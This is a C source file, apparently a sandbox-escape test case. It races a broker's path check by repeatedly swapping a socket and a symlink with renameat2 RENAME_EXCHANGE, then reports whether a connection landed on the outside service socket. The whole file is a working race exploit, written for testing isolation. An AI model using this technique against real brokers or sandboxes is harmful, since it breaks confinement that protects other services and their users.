/*
 * The path is swapped between an own socket and a symlink to one outside while the broker looks.
 */
#include "attack.h"

#include <pthread.h>
#include <time.h>

static void *
swap(void *data)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, "one", AT_FDCWD, "two", 2 /* RENAME_EXCHANGE */);
	return data;
}

static int
attack(void)
{
	struct sockaddr_un own = unix_name("one"), name = unix_name("one");
	pthread_t thread;
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);

	if (bind(listener, (struct sockaddr *)&own, sizeof(own)) < 0 || listen(listener, 128) < 0)
		return held("listen");
	if (symlink(service_path("stream"), "two") < 0)
		return held("symlink");
	pthread_create(&thread, NULL, swap, NULL);
	fcntl(listener, F_SETFL, O_NONBLOCK);
	for (time_t end = time(NULL) + 3; time(NULL) < end;) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		struct sockaddr_un peer = { 0 };
		socklen_t length = sizeof(peer);

		if (connect(fd, (struct sockaddr *)&name, sizeof(name)) == 0 &&
		    getpeername(fd, (struct sockaddr *)&peer, &length) == 0 &&
		    strcmp(peer.sun_path, "one") != 0)
			return escaped("connected to a swapped path");
		close(fd);
		fd = accept(listener, NULL, NULL);
		if (fd >= 0)
			close(fd);
	}
	errno = EACCES;
	return held("connect");
}
